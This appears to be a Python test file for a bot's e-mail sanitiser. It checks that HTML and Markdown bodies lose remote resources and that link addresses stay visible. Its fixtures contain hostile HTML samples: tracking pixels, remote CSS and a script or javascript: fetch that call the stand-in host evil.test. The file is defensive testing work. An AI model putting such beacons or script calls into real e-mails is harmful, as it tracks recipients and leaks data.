"""The HTML of the e-mails the bot writes carries no remote resource, and shows every link's address."""

from __future__ import annotations

import re

import pytest

from bot.channel.email import build_message, safe_html, text_to_html
from bot.config import ConfigError, load_settings

HOSTILE_HTML = """<html><head><link rel="stylesheet" href="https://evil.test/s.css?d=1">
<style>@import url(https://evil.test/i.css); @font-face { font-family: x; src: url(https://evil.test/f.woff) }
body { background: url('https://evil.test/bg?d=2') }</style></head><body>
<p style="background-image:url(https://evil.test/p?d=3);font-family:x">Bonjour <b>Awa</b>,</p>
<img src="https://evil.test/pixel.gif?d=4" width="1" height="1">
<img srcset="https://evil.test/a.png?d=5 1x, https://evil.test/b.png 2x" src="data:image/png;base64,AAAA">
<picture><source srcset="https://evil.test/c.webp?d=6"></picture>
<table background="https://evil.test/t.png?d=7"><tr><td background="https://evil.test/td?d=8">12</td></tr></table>
<video poster="https://evil.test/v.png?d=9"></video><iframe src="https://evil.test/frame"></iframe>
<svg><image href="https://evil.test/svg?d=10"/></svg>
<p>Voir <a href="https://evil.test/?d=11" title="x" style="color:red">le corrigé</a>,
<a href="javascript:fetch('https://evil.test/?d=12')">ceci</a>, <a href="data:text/html,hi">cela</a>,
<a href="/relatif?d=13">là</a>, <a href="https://site.ci/cours">https://site.ci/cours</a>
et <a href="mailto:prof@site.ci">mon prof</a>.</p>
<script>new Image().src='https://evil.test/?d=14'</script><p onclick="x()">Fin</p></body></html>"""

HOSTILE_MARKDOWN = """Bonjour ![pixel](https://evil.test/md.gif?d=1)

Voir [le corrigé](https://evil.test/?d=2 "titre") et <https://site.ci/auto?x=1&y=2>.
[js](javascript:alert(1)) [data](data:text/html,hi)
<img src="https://evil.test/raw?d=3"> <link rel=stylesheet href=https://evil.test/s.css>

![](data:image/png;base64,AAAA)"""


def _no_remote(html: str) -> None:
    """Every tag is a text tag with no attribute but a link's http(s)/mailto address (escaped text
    such as « &lt;img … » is text, not a tag)."""
    tags = re.findall(r"<([a-zA-Z][\w-]*)([^>]*)>", html)
    assert tags, html
    for name, attrs in tags:
        assert name.lower() not in {"img", "link", "style", "source", "picture", "video", "iframe", "svg",
                                    "image", "script", "meta", "base", "object", "embed"}, html
        if name.lower() == "a":
            assert re.fullmatch(r' href="(?:https?:|mailto:)[^"]*"', attrs), html
        else:
            assert attrs.strip() == "", html
    assert "url(" not in html and "@import" not in html and "@font-face" not in html


def test_hostile_html_keeps_its_text_and_no_remote_resource() -> None:
    html = safe_html(HOSTILE_HTML)
    _no_remote(html)
    assert "<p>Bonjour <b>Awa</b>,</p>" in html and "<td>12</td>" in html and "Fin" in html
    for d in range(1, 11):
        assert f"d={d}\"" not in html and f"d={d})" not in html
    corrige = "https://evil.test/?d=11"
    assert f'le corrigé (<a href="{corrige}">{corrige}</a>)' in html
    assert "ceci," in html and "cela," in html and "là," in html and "d=13" not in html
    assert "data:" not in html and "javascript" not in html and "evil.test/i.css" not in html
    assert html.count("https://site.ci/cours") == 2  # an address shown as its own text: once, as the link
    assert '<a href="https://site.ci/cours">https://site.ci/cours</a>' in html
    assert 'mon prof (<a href="mailto:prof@site.ci">prof@site.ci</a>)' in html
    assert [m for m in re.findall(r'<a href="([^"]*)">([^<]*)</a>', html)
            if m[1] not in (m[0], m[0].removeprefix("mailto:"))] == []


def test_hostile_markdown_keeps_its_text_and_no_remote_resource() -> None:
    html = safe_html(text_to_html(HOSTILE_MARKDOWN))
    _no_remote(html)
    assert "md.gif" not in html and "data:image" not in html
    assert "&lt;img src=" in html  # raw HTML in Markdown stays text
    assert 'le corrigé (<a href="https://evil.test/?d=2">https://evil.test/?d=2</a>)' in html
    auto = "https://site.ci/auto?x=1&amp;y=2"
    assert f'<a href="{auto}">{auto}</a>' in html  # an autolink: the address, once
    assert "js" in html and "data" in html


def test_the_whole_message_and_its_plain_part_show_the_addresses() -> None:
    msg = build_message(from_addr="bot@deblo.test", to=["awa@example.ci"], subject="Leçon", body=HOSTILE_HTML)
    html = msg.get_body(("html",)).get_content()  # type: ignore[union-attr]
    plain = msg.get_body(("plain",)).get_content()  # type: ignore[union-attr]
    wrapper = ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>Leçon</title></head>'
               '<body style="font-family:Arial,Helvetica,sans-serif;line-height:1.5;color:#222">')
    assert html.startswith(wrapper) and html.rstrip().endswith("</body></html>")  # our own frame, no url()
    _no_remote(html[len(wrapper):].rstrip().removesuffix("</body></html>"))
    assert "le corrigé (https://evil.test/?d=11)" in plain and "mon prof (prof@site.ci)" in plain
    assert plain.count("https://site.ci/cours") == 1 and "pixel.gif" not in plain


def test_browse_max_per_turn_is_checked() -> None:
    env = {"TWILIO_ACCOUNT_SID": "ACtest", "TWILIO_AUTH_TOKEN": "t", "LLM_API_KEY": "k"}
    assert load_settings(env).browse_max_per_turn == 5
    assert load_settings({**env, "BROWSE_MAX_PER_TURN": "2"}).browse_max_per_turn == 2
    for bad in ("0", "cinq"):
        with pytest.raises(ConfigError, match="BROWSE_MAX_PER_TURN"):
            load_settings({**env, "BROWSE_MAX_PER_TURN": bad})
